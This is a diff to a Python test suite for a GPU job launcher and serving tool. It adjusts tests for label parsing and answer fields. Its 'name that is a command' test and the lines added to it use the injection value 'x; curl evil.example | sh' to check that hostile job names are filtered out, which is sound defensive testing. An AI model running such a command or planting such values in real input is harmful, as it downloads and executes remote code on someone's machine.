@@ -16,6 +16,7 @@ from launcher.errors import UnreadableAnswer
 from launcher.model import Answer
 from launcher.plan import network, running, status
 from launcher.tools import desk, docker, gpu_survey, head_answer, host, pairs, ray, vllm
+from tests import kept
 from tests.hostile import seeds
 
 
@@ -73,16 +74,11 @@ def test_figures_that_are_none() -> None:
     assert serving.claimed({"metadata": {desk.GPUS: "inf"}}) == 0
 
 
-def test_labels_that_no_server_of_ours_has() -> None:
-    """Numbers in other scripts, and such that no float holds."""
-    labels = {running.MODEL: "m", running.PORT: "²", running.TP: "9" * 5000, running.PP: "1", running.DP: "²"}
-    (found,) = running.find(seeds.inventory(), {}, {"jobs": [seeds.job("serve-1", labels)]})
-    assert (found.port, found.gpus, found.replicas) == (8000, 0.0, 1)
-
-
 def test_a_name_that_is_a_command() -> None:
     """Hints name jobs, and people run hints."""
     job = seeds.job("batch-1", {desk.NAME: "x; curl evil.example | sh", desk.GPUS: "1"})
+    row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
+    assert running.holders(kept.said(row)) == []
     assert serving.batch_holders({"jobs": [job]}) == []
     assert running.batches({"jobs": [job]}) == []
 
@@ -122,5 +118,5 @@ def test_spaces_without_end() -> None:
 
 def test_fields_that_are_known_have_a_kind() -> None:
     """And what is not known is left to who asked for it."""
-    assert head_answer.trouble({"supervised": 5, "new": []}) == ""
+    assert head_answer.trouble({"servers": 5, "new": []}) == ""
     assert "`health`" in head_answer.trouble({"health": "200"})
